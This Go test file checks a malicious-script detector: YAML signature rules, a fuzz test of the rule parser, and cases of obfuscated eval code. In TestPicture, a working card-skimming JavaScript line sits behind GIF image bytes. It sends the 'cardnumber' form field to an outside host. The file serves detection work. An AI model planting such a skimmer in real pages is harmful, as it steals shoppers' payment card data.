package script_test

import (
	"slices"
	"strings"
	"testing"

	"tradecraft/intake/site/script"
)

const ownSignatures = `
- id: both
  title: Two words
  techniques: [T1059.007]
  match:
    and:
      - text: Alpha
        nocase: true
      - or: [{hex: "62 65 74 61"}, {of: 2, among: [{text: x1}, {text: x2}, {regex: 'x[34]'}]}]
      - not: {text: gamma}
- id: broken
  title: No test
- id: pattern
  title: Bad pattern
  match: {regex: '('}
`

func TestSignatures(t *testing.T) {
	s, problems, err := script.ReadSignatures("own.yaml", []byte(ownSignatures))
	if err != nil {
		t.Fatal(err)
	}
	if len(problems) != 2 || !strings.Contains(problems[0].Message, "line 11") {
		t.Errorf("problems: %+v", problems)
	}
	tests := map[string]bool{
		"var alpha=1,beta=2":                                 true,
		"var ALPHA='x1 x2'":                                  true,
		"var alpha='x1'":                                     false,
		"var alpha='x1 x4'":                                  true,
		"var alpha=1,beta=2,gamma=3":                         false,
		"eval('var alpha=1;var beta')":                       true,
		"eval(atob('dmFyIGFscGhhPTEsYmV0YT1kb2N1bWVudA=='))": true, // in a hidden layer
	}
	for text, want := range tests {
		a := assess(t, text, script.Options{Signatures: s})
		got := slices.ContainsFunc(a.Findings, func(f script.Finding) bool { return f.Behaviour == "signature:both" })
		if got != want {
			t.Errorf("%s: %v, want %v", text, got, want)
		}
		if want && a.Verdict == script.Clean {
			t.Errorf("%s: clean at %.2f", text, a.Malicious)
		}
	}
}

func FuzzReadSignatures(f *testing.F) {
	f.Add([]byte(ownSignatures))
	f.Add([]byte("- {id: a, title: b, match: {of: 1, among: [{not: {text: c}}]}}"))
	f.Fuzz(func(t *testing.T, b []byte) {
		s, _, err := script.ReadSignatures("f", b)
		if (s == nil) == (err == nil) {
			t.Fatal("neither signatures nor error, or both")
		}
	})
}

// TestPicture: code behind the end of a picture is found and read.
func TestPicture(t *testing.T) {
	gif := "GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
	code := "document.addEventListener('submit',function(){new Image().src='https://stat-gather.top/i?'+btoa(document.querySelector('[name=cardnumber]').value)})"
	a := assess(t, gif+code, script.Options{})
	if a.Kind != script.KindPicture || a.Verdict != script.Malicious {
		t.Errorf("%s, %s", a.Kind, a.Verdict)
	}
	if a = assess(t, gif, script.Options{}); a.Verdict != script.Clean || len(a.Findings) != 0 {
		t.Errorf("nothing behind it: %+v", a)
	}
}
